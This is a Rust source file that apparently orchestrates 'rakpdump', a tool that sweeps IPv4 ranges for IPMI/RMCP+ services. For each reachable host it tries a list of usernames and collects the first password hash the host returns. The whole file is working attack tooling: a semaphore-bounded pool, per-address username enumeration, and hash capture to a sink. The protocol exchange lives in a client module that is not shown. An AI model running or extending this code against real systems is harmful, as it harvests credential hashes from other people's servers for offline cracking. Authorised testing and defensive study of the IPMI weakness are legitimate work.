//! Concurrent sweep orchestration.
//!
//! Each worker owns whole addresses, never individual usernames: all
//! session correlation for one handshake happens on one task with one
//! socket. Workers run under a semaphore-bounded pool and report
//! opportunistically; there is no cross-address ordering.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tracing::{debug, info, warn};

use rakpdump_common::config::ScanConfig;
use rakpdump_common::network::target::Target;

use crate::client::{self, AttemptFailure};
use crate::sink::ResultSink;

/// Terminal state of one address's scan.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AddressOutcome {
    /// The reachability probe got no reply; no username was attempted.
    Unreachable,
    /// A hash was retrieved; remaining usernames were skipped.
    HashFound,
    /// Every candidate username was tried without a hash.
    Exhausted,
    /// The sweep was cancelled before this address finished.
    Cancelled,
}

/// Closing tally for the caller's report.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct SweepSummary {
    pub scanned: usize,
    pub reachable: usize,
    pub hashes: usize,
}

/// Sweeps `addrs` with the configured pool, streaming every hash into
/// `sink` as it is found. Cancellation is cooperative: the flag is checked
/// between addresses and between username attempts, never mid-handshake.
pub async fn perform_sweep(
    addrs: Vec<Ipv4Addr>,
    config: &ScanConfig,
    sink: Arc<dyn ResultSink>,
    cancel: Arc<AtomicBool>,
) -> SweepSummary {
    let pool = Arc::new(Semaphore::new(config.workers.max(1)));
    let usernames: Arc<[String]> = config.usernames.clone().into();
    let mut workers = JoinSet::new();

    for addr in addrs {
        let target = Target::new(addr, config.port, config.timeout);
        let pool = pool.clone();
        let usernames = usernames.clone();
        let sink = sink.clone();
        let cancel = cancel.clone();

        workers.spawn(async move {
            let Ok(_permit) = pool.acquire().await else {
                return AddressOutcome::Cancelled;
            };
            if cancel.load(Ordering::Relaxed) {
                return AddressOutcome::Cancelled;
            }
            scan_address(target, &usernames, sink.as_ref(), &cancel).await
        });
    }

    let mut summary = SweepSummary::default();
    while let Some(joined) = workers.join_next().await {
        let Ok(outcome) = joined else {
            continue;
        };
        summary.scanned += 1;
        match outcome {
            AddressOutcome::Unreachable | AddressOutcome::Cancelled => {}
            AddressOutcome::HashFound => {
                summary.reachable += 1;
                summary.hashes += 1;
            }
            AddressOutcome::Exhausted => summary.reachable += 1,
        }
    }
    summary
}

/// Per-address state machine: reachability probe, then strictly sequential
/// username iteration, halting on the first hash or on a host that stops
/// answering.
async fn scan_address(
    target: Target,
    usernames: &[String],
    sink: &dyn ResultSink,
    cancel: &AtomicBool,
) -> AddressOutcome {
    if !client::probe(&target).await {
        debug!(addr = %target.addr, "RMCP+ not reachable");
        return AddressOutcome::Unreachable;
    }
    info!("RMCP+ reachable: {}", target.addr);

    for username in usernames {
        if cancel.load(Ordering::Relaxed) {
            return AddressOutcome::Cancelled;
        }
        debug!(addr = %target.addr, "trying user '{username}'");
        match client::attempt(&target, username).await {
            Ok(record) => {
                info!("Got hash for user '{}' ({})", username, target.addr);
                sink.hash_found(&record);
                return AddressOutcome::HashFound;
            }
            Err(AttemptFailure::Unreachable) => {
                // The host answered the probe but went quiet; further
                // usernames would each burn two timeouts for nothing.
                warn!(addr = %target.addr, "host stopped responding mid-scan");
                return AddressOutcome::Unreachable;
            }
            Err(AttemptFailure::InvalidUser) => {
                debug!(addr = %target.addr, "user '{username}' does not exist on this system");
            }
            Err(AttemptFailure::Malformed | AttemptFailure::ParseError) => {
                debug!(addr = %target.addr, "reply for user '{username}' not usable, moving on");
            }
        }
    }
    AddressOutcome::Exhausted
}
